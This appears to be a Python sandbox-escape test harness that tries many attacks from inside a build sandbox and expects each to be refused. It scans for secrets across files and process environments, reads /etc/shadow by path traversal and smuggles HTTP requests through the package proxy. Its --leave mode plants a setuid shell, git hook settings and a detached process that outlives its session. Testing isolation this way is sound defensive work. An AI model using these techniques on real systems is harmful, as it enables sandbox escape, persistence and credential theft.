"""Attacks from inside a set-up, an install hook or a job over a layer. None may succeed; outside, as root, those with a control must.

escape_hooks.py FACTS [NAME…]: FACTS is a JSON file with what an attacker could know at best. Each attempt runs in a process of its own and
prints one line of JSON: {"attempt", "outcome": "succeeded" | "refused" | "unknown", "how"}.
escape_hooks.py FACTS --leave: leaves in the work directory and the home what a layer must not have. The proof looks at the layer afterwards.
"""

import contextlib
import errno
import http.client
import json
import os
import pathlib
import shutil
import signal
import socket
import stat
import subprocess
import sys
import urllib.parse

PROXY = ("127.0.0.1", 3129)
attempts, controls = {}, set()


class Refused(Exception):
    pass


def attempt(function):
    attempts[function.__name__] = function
    return function


def control(function):
    """An attempt that must succeed outside of a sandbox."""
    controls.add(function.__name__)
    return attempt(function)


def find_secret(data):
    if facts["secret"].encode() not in data:
        raise Refused("what was read is not the secret")
    return "read the secret"


def read_tree(path):
    """Whether the secret is in any file below a path."""
    if not os.path.isdir(path):
        raise Refused("no such directory")
    os.listdir(path)
    for folder, _, files in os.walk(path):
        for name in files:
            try:
                return find_secret(pathlib.Path(folder, name).read_bytes())
            except (OSError, Refused):
                pass
    raise Refused("in no file")


def write_into(path):
    if not os.path.isdir(path):
        raise Refused("no such directory")
    pathlib.Path(path, "of-an-escape").write_text("x")
    return f"wrote into {path}"


def ask_proxy(method, target, headers=None, body=None):
    """One request to the package proxy: (status, body). The target is sent as it stands."""
    connection = http.client.HTTPConnection(*PROXY, timeout=10)
    try:
        connection.putrequest(method, target, skip_host="host" in {name.lower() for name in headers or {}}, skip_accept_encoding=True)
        for name, value in (headers or {}).items():
            connection.putheader(name, value)
        if body is not None:
            connection.putheader("Content-Length", str(len(body)))
        connection.endheaders(body)
        answer = connection.getresponse()
        return answer.status, answer.read(1 << 20)
    except http.client.HTTPException as error:
        raise Refused(f"no answer: {error!r}") from error
    finally:
        connection.close()


# Layers and directories of others.
@control
def the_layer_of_another_project(): return read_tree(facts["victim_layer"])
@control
def every_layer(): return read_tree(facts["layers"])
@control
def the_directories_of_other_jobs(): return f"{os.listdir(facts['jobs'])}"
@attempt
def to_write_into_the_layer_of_another_project(): return write_into(os.path.join(facts["victim_layer"], "work"))
@attempt
def to_write_into_the_directory_of_layers(): return write_into(facts["layers"])


@attempt
def to_write_into_the_own_layer_by_its_path():
    """The layers of this project, wherever they are."""
    for folder in facts["own_layers"]:
        return write_into(folder)
    raise Refused("not known")


@attempt
def the_layers_below_by_the_mount_table():
    """What the mount table says about overlays, opened as paths of the host."""
    for line in open("/proc/self/mountinfo"):
        for option in line.split()[-1].split(","):
            name, _, path = option.partition("=")
            if name in ("lowerdir", "upperdir", "workdir"):
                for part in path.split(":"):
                    if os.path.isdir(part) and not part.startswith("/usr"):
                        return f"{name} {part} is there"
    raise Refused("no layer can be reached by its path")


@attempt
def a_layer_through_every_process():
    for process in filter(str.isdigit, os.listdir("/proc")):
        for way in ("root", "cwd"):
            try:
                return read_tree(f"/proc/{process}/{way}{facts['victim_layer']}")
            except (OSError, Refused):
                pass
    raise Refused("through none")


@attempt
def the_secret_anywhere():
    """In every file that can be seen but those of the system, and in every environment."""
    for place in ("/work", "/home", "/tmp", "/run", "/out", "/opt", "/etc", "/var"):
        for folder, _, files in os.walk(place):
            for name in files:
                path = os.path.join(folder, name)
                try:
                    if os.path.basename(path) not in facts["known_files"] and stat.S_ISREG(os.lstat(path).st_mode):
                        return f"{find_secret(pathlib.Path(path).read_bytes()[: 1 << 20])} in {path}"
                except (OSError, Refused):
                    pass
    for process in filter(str.isdigit, os.listdir("/proc")):
        try:
            return f"{find_secret(pathlib.Path(f'/proc/{process}/environ').read_bytes())} in the environment of {process}"
        except (OSError, Refused):
            pass
    raise Refused("nowhere")


# The package cache.
@control
def the_package_cache(): return f"{os.listdir(facts['package_cache'])}"
@attempt
def to_write_into_the_package_cache(): return write_into(facts["package_cache"])


def changes_proxy(method):
    """An upload, a login or a removal, at the places where registries have them."""
    for target in ("/npm/shared", "/npm/-/user/org.couchdb.user:x", "/npm/-/npm/v1/tokens", "/pypi/legacy/", "/pypi/simple/shared/",
                   "/crates/api/v1/crates/new", "/crates/dl/shared/1.0.0", "/debian/0/pool/x.deb", "/"):  # fmt: skip
        status, body = ask_proxy(method, target, {"X-Attack": facts["mark"], "Authorization": f"Bearer {facts['mark']}"}, facts["mark"].encode())
        if status < 400:
            return f"{method} {target}: {status} {body[:80]}"
    raise Refused(f"the last answer was {status}")


@attempt
def an_upload_by_put(): return changes_proxy("PUT")
@attempt
def an_upload_by_post(): return changes_proxy("POST")
@attempt
def a_removal(): return changes_proxy("DELETE")
@attempt
def a_change_by_patch(): return changes_proxy("PATCH")


@attempt
def another_address_in_the_index_of_everyone():
    """A header that changes what the proxy writes into an index that others get, too."""
    outside = f"127.0.0.1:{facts['outside_port']}"
    for headers in ({"Host": outside}, {"X-Forwarded-Host": outside}, {"Forwarded": f"host={outside}"}, {"X-Original-URL": f"//{outside}/"}):
        ask_proxy("GET", "/npm/shared", headers)
        _, body = ask_proxy("GET", "/npm/shared")
        if str(facts["outside_port"]).encode() in body:
            return f"the index has the address after {headers}"
    raise Refused("the index is as it was")


# Other hosts.
@control
def a_host_outside():
    with socket.create_connection(("127.0.0.1", facts["outside_port"]), 3) as s:
        s.sendall(b"GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
        data = b""
        while part := s.recv(4096):
            data += part
        return find_secret(data)


@attempt
def a_tunnel_through_the_proxy():
    with socket.create_connection(PROXY, 5) as s:
        target = f"127.0.0.1:{facts['outside_port']}"
        s.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
        answer = s.recv(4096)
        if b" 200" not in answer.split(b"\r\n")[0]:
            raise Refused(answer[:60])
        return "the tunnel is open"


@attempt
def a_host_outside_in_the_target():
    """Every form in which a target could name another host or a file of the node."""
    url = f"http://127.0.0.1:{facts['outside_port']}/secret"
    coded, hexed = urllib.parse.quote(url, safe=""), url.encode().hex()
    targets = [url, f"//127.0.0.1:{facts['outside_port']}/secret", f"/{url}", f"/{coded}", f"/npm/{coded}", f"/npm/@x%2f{coded}", f"/npm/x/-/{coded}",
               f"/pypi/files/{url}", f"/pypi/files/{coded}", f"/pypi/files/{hexed}", f"/pypi/simple/{coded}/", f"/crates/dl/{coded}/1.0.0",
               f"/debian/0/{url}", f"/debian/{coded}/x", f"/debian/0/pool/../../../../..{facts['victim_layer']}/home/planted",
               f"/debian/0/pool/..%2f..%2f..%2f..%2f..{facts['victim_layer']}/home/planted", "/npm/..%2f..%2f..%2fetc%2fshadow",
               "/crates/config.json?url=" + coded]  # fmt: skip
    for target in targets:
        status, body = ask_proxy("GET", target)
        if facts["secret"].encode() in body or b"root:" in body:
            return f"{target}: {status}"
    raise Refused("no target led out")


@attempt
def two_requests_in_one():
    """A body that a proxy could take for the next request (request smuggling)."""
    hidden = f"GET http://127.0.0.1:{facts['outside_port']}/ HTTP/1.1\r\nHost: x\r\n\r\n".encode()
    with socket.create_connection(PROXY, 5) as s:
        s.settimeout(3)
        s.sendall(b"GET /npm/shared HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + hidden)
        data = b""
        with contextlib.suppress(TimeoutError):
            while part := s.recv(65536):
                data += part
    return find_secret(data)


# The system and the kernel's view of layers.
@attempt
def to_write_into_the_system():
    for place in ("/usr/bin", "/usr/lib", "/etc", "/opt", "/"):
        try:
            return write_into(place)
        except (OSError, Refused):
            pass
    raise Refused("nowhere")


@attempt
def a_device_in_the_layer():
    os.mknod("device", stat.S_IFCHR | 0o666, os.makedev(1, 1))
    return "made"


@attempt
def a_mark_of_a_deleted_file():
    os.mknod("whiteout", stat.S_IFCHR, os.makedev(0, 0))
    return "made"


@attempt
def an_attribute_that_only_the_kernel_writes():
    pathlib.Path("marked").write_text("x")
    os.setxattr("marked", "trusted.overlay.redirect", b"/etc")
    return "set"


@attempt
def a_hard_link_to_a_file_of_the_system():
    os.link("/usr/bin/env", "linked")
    return "linked"


@attempt
def to_be_another_user():
    os.setuid(0)
    return "is root"


def leave():
    """Everything that set-up can leave behind, in the hope that it means something to whoever comes next."""
    home = pathlib.Path(os.environ.get("HOME", "/home/agent"))
    for place in (pathlib.Path("left"), home / "left"):
        place.mkdir(exist_ok=True)
        shutil.copyfile("/bin/sh", place / "setuid")
        os.chmod(place / "setuid", 0o6755)
        for name, target in (("link", facts["victim_layer"]), ("up", "../../../../.."), ("shadow", "/etc/shadow")):
            if not os.path.lexists(place / name):
                os.symlink(target, place / name)
        for attribute in ("user.overlay.redirect", "user.overlay.opaque", "user.overlay.metacopy", "user.overlay.origin"):
            with contextlib.suppress(OSError):
                os.setxattr(place, attribute, b"y")
                os.setxattr(place / "setuid", attribute, b"/etc/shadow")
        for make in (lambda place: os.mkfifo(place / "pipe"), lambda place: socket.socket(socket.AF_UNIX).bind(str(place / "socket"))):
            with contextlib.suppress(OSError):
                make(place)
    # A tracked file, and settings of git that name a program: nobody outside of a sandbox may run it.
    pathlib.Path("README.md").write_text("changed by set-up\n")
    program = pathlib.Path("left/program").resolve()
    program.write_text(f"#!/bin/sh\n: >{facts['host_marker']}\n")
    os.chmod(program, 0o777)
    for setting in ("core.fsmonitor", "core.hooksPath", "core.sshCommand", "diff.external"):
        subprocess.run(["git", "config", setting, str(program)], check=False, capture_output=True)
    hook = pathlib.Path(".git/hooks/post-checkout")
    if hook.parent.is_dir():
        shutil.copy(program, hook)
    # A process that outlives its parent, its session and its streams.
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for descriptor in range(3):
                os.close(descriptor)
            os.execv("/bin/sleep", [facts["mark"], "1000"])
        os._exit(0)


def main(names):
    for name in names or attempts:
        sys.stdout.flush()
        reader, writer = os.pipe()
        child = os.fork()
        if child == 0:
            os.close(reader)
            signal.alarm(60)
            try:
                outcome, how = "succeeded", str(attempts[name]())
            except Refused as refusal:
                outcome, how = "refused", str(refusal)
            except OSError as error:
                outcome, how = "refused", errno.errorcode.get(error.errno, str(error))
            except BaseException as error:
                outcome, how = "unknown", repr(error)
            os.write(writer, json.dumps({"attempt": name, "outcome": outcome, "how": how[:200]}).encode())
            os._exit(0)
        os.close(writer)
        output = b""
        while part := os.read(reader, 65536):
            output += part
        status = os.waitpid(child, 0)[1]
        os.close(reader)
        print(output.decode() or json.dumps({"attempt": name, "outcome": "unknown", "how": f"ended with {status}"}), flush=True)


if __name__ == "__main__":
    with open(sys.argv[1]) as file:
        facts = json.load(file)
    if sys.argv[2:] == ["--leave"]:
        leave()
    elif sys.argv[2:] == ["--controls"]:
        main(sorted(controls))
    else:
        main(sys.argv[2:])
